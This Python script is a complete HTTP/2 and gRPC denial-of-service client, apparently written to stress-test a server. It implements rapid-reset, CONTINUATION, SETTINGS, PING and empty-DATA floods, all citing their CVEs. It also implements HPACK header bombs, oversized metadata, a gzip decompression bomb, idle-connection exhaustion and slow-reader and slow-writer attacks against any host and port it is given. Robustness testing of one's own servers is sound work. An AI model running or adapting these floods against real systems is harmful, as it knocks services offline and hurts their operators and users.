"""A client that means ill: `python attacker.py KIND HOST:PORT SECONDS REQUEST`, by its own bytes (RFC 9113, 7541).

It begins when it reads a line, the key of slow readers and writers, so that it can be put under its quota before. At
the end it prints how often it did what its kind says, and how often it had to open another connection because the
kernel gave one up.
"""

import gzip
import json
import os
import selectors
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
CHECK, RUN = "/grpc.health.v1.Health/Check", "/inferd.v1.TaskService/RunTask"
TIMEOUT_S = 5.0
BATCH = 100
SMALL = 16
BOMB = gzip.compress(bytes(16 << 20))
IDLE = 10_000
PACE = threading.Event()  # which never comes: a kernel that takes no more is left alone for a moment


def frame(kind: int, payload: bytes = b"", *, flags: int = 0, stream: int = 0) -> bytes:
    """A frame; RFC 9113, 4.1."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def number(value: int, bits: int) -> bytes:
    """An integer, in what a prefix of so many bits leaves; RFC 7541, 5.1."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([value])
    value, coded = value - most, bytearray([most])
    while value >= 128:
        coded.append(value & 127 | 128)
        value >>= 7
    return bytes((*coded, value))


def literal(name: str, value: str, *, indexed: bool = False) -> bytes:
    """A header field, its texts not compressed; RFC 7541, 6.2."""
    texts = b"".join(number(len(text), 7) + text.encode() for text in (name, value))
    return (b"\x40" if indexed else b"\0") + texts


def fields(path: str, **more: str) -> bytes:
    """The header fields of a call of gRPC."""
    usual = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "x", "te": "trailers"}
    usual["content-type"] = "application/grpc"
    usual |= {name.replace("_", "-"): text for name, text in more.items()}
    return b"".join(literal(*each) for each in usual.items())


def message(data: bytes, *, compressed: bool = False) -> bytes:
    """A message of gRPC."""
    return struct.pack(">BI", compressed, len(data)) + data


class Connections:
    """Connections to a kernel, each opened anew when the kernel gives it up."""

    def __init__(self, address: str) -> None:
        host, _, port = address.rpartition(":")
        self._address = (host, int(port))
        self.opened = 0

    def open(self, *, speaks: bool = True, receive_bytes: int = 0) -> socket.socket:
        """A new one, which has said that it speaks HTTP/2."""
        sock = socket.socket()
        if receive_bytes:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
        sock.settimeout(TIMEOUT_S)
        sock.connect(self._address)
        self.opened += 1
        if speaks:
            sock.sendall(PREFACE + frame(SETTINGS))
        return sock

    def flood(self, batches: Callable[[], Iterator[bytes]], until: float) -> int:
        """Send what there is, and read and forget what comes, on one connection after the other; how many batches."""
        sent = 0
        while time.monotonic() < until:
            try:
                with self.open() as sock:
                    for batch in batches():
                        if time.monotonic() >= until:
                            break
                        sock.sendall(batch)
                        sent += 1
                        while sock in _ready(sock):
                            if not sock.recv(1 << 16):
                                raise ConnectionResetError
            except OSError:
                continue
        return sent


def _ready(sock: socket.socket) -> list[object]:
    with selectors.DefaultSelector() as selector:
        selector.register(sock, selectors.EVENT_READ)
        return [key.fileobj for key, _ in selector.select(0)]


def streams() -> Iterator[int]:
    """Ids of streams of a client."""
    return iter(range(1, (1 << 31) - 1, 2))


def resets() -> Iterator[bytes]:
    """Calls that are taken back at once (CVE-2023-44487)."""
    head, ids = fields(CHECK), streams()
    cancel = struct.pack(">I", 8)
    while True:
        yield b"".join(
            frame(HEADERS, head, flags=END_HEADERS, stream=stream) + frame(RST_STREAM, cancel, stream=stream)
            for stream, _ in zip(ids, range(BATCH), strict=False)
        )


def continuations() -> Iterator[bytes]:
    """Headers that do not end (CVE-2024-27316)."""
    yield frame(HEADERS, fields(CHECK), stream=1)
    more = frame(CONTINUATION, literal("x-more", "x" * 8000), stream=1)
    while True:
        yield more * SMALL


def header_bombs() -> Iterator[bytes]:
    """A long field once, and then by its place in the table, a thousand times a call."""
    ids = streams()
    long = literal("x-long", "x" * 4000, indexed=True)
    for stream in ids:
        bomb = fields(CHECK) + (long if stream == 1 else b"") + b"\xbe" * 1000
        yield frame(HEADERS, bomb, flags=END_HEADERS, stream=stream)


def large_metadata() -> Iterator[bytes]:
    """Calls with more metadata than is taken."""
    for stream in streams():
        head = fields(CHECK, x_large="x" * 15_000) + literal("x-larger", "x" * 1000)
        yield frame(HEADERS, head[:16_000], stream=stream) + frame(
            CONTINUATION, head[16_000:], flags=END_HEADERS, stream=stream
        )


def settings() -> Iterator[bytes]:
    """Settings, each of which is to be acknowledged (CVE-2019-9515)."""
    while True:
        yield frame(SETTINGS, struct.pack(">HI", 4, 65_535)) * BATCH


def pings() -> Iterator[bytes]:
    """Pings, each of which is to be answered (CVE-2019-9512)."""
    while True:
        yield frame(PING, bytes(8)) * BATCH


def empties() -> Iterator[bytes]:
    """Data of no bytes, for ever (CVE-2019-9518)."""
    yield frame(HEADERS, fields(RUN), flags=END_HEADERS, stream=1)
    while True:
        yield frame(DATA, stream=1) * BATCH


def bombs() -> Iterator[bytes]:
    """Messages that would be a thousand times as large when they were inflated."""
    data = message(BOMB, compressed=True)
    for stream in streams():
        head = frame(HEADERS, fields(RUN, grpc_encoding="gzip"), flags=END_HEADERS, stream=stream)
        cut = [data[at : at + 16_000] for at in range(0, len(data), 16_000)]
        yield head + b"".join(
            frame(DATA, part, flags=END_STREAM if part is cut[-1] else 0, stream=stream) for part in cut
        )


FLOODS: dict[str, Callable[[], Iterator[bytes]]] = {
    "rapid-reset": resets,
    "continuation": continuations,
    "header-bomb": header_bombs,
    "metadata": large_metadata,
    "settings": settings,
    "pings": pings,
    "empty-data": empties,
    "compression": bombs,
}


def hold(connections: Connections, until: float, *, speaks: bool) -> int:
    """As many idle connections as may be had; those that the kernel gives up are opened again."""
    held: list[socket.socket] = []
    try:
        while time.monotonic() < until:
            if len(held) < IDLE:
                try:
                    held.append(connections.open(speaks=speaks))
                except OSError:
                    PACE.wait(0.01)
            else:
                PACE.wait(0.05)
        return len(held)
    finally:
        for sock in held:
            sock.close()


def read_slowly(connections: Connections, until: float, head: bytes, request: bytes) -> int:
    """Streams of output of which nothing is read."""
    held: list[socket.socket] = []
    asked = 0
    while time.monotonic() < until:
        try:
            sock = connections.open(receive_bytes=4096)
            held.append(sock)
            for stream, _ in zip(streams(), range(BATCH), strict=False):
                sock.sendall(
                    frame(HEADERS, head, flags=END_HEADERS, stream=stream)
                    + frame(DATA, message(request), flags=END_STREAM, stream=stream)
                )
                asked += 1
                if time.monotonic() >= until:
                    break
        except OSError:
            PACE.wait(0.01)
    return asked


def write_slowly(connections: Connections, until: float, head: bytes) -> int:
    """Calls whose message is said to be large, and comes byte by byte."""
    held: list[tuple[socket.socket, int]] = []
    written = 0
    large = struct.pack(">BI", 0, (4 << 20) - 1)
    while time.monotonic() < until:
        try:
            if len(held) < SMALL * BATCH:
                sock = connections.open()
                for stream, _ in zip(streams(), range(BATCH), strict=False):
                    sock.sendall(
                        frame(HEADERS, head, flags=END_HEADERS, stream=stream)
                        + frame(DATA, large + bytes(8000), stream=stream)
                    )
                    held.append((sock, stream))
            for sock, stream in held[-BATCH:]:
                sock.sendall(frame(DATA, b"\0", stream=stream))
                written += 1
        except OSError:
            held.clear()
    return written


def burn(until: float) -> int:
    """No attack: the same time of the processor, in a loop."""
    turns = 0
    while time.monotonic() < until:
        turns += 1
    return turns


def main() -> None:
    """Attack, for as long as is said."""
    kind, address, seconds, request = sys.argv[1], sys.argv[2], float(sys.argv[3]), bytes.fromhex(sys.argv[4])
    sys.stdout.write(f"{os.getpid()}\n")
    sys.stdout.flush()
    credential = sys.stdin.readline().strip()
    connections, until = Connections(address), time.monotonic() + seconds
    if kind in FLOODS:
        done = connections.flood(FLOODS[kind], until)
    elif kind in {"idle", "mute"}:
        done = hold(connections, until, speaks=kind == "idle")
    elif kind == "slow-readers":
        done = read_slowly(connections, until, fields(RUN, authorization=f"Bearer {credential}"), request)
    elif kind == "slow-writers":
        done = write_slowly(connections, until, fields(RUN, authorization=f"Bearer {credential}"))
    else:
        done = burn(until)
    sys.stdout.write(json.dumps({"done": done, "connections": connections.opened}) + "\n")


if __name__ == "__main__":
    main()
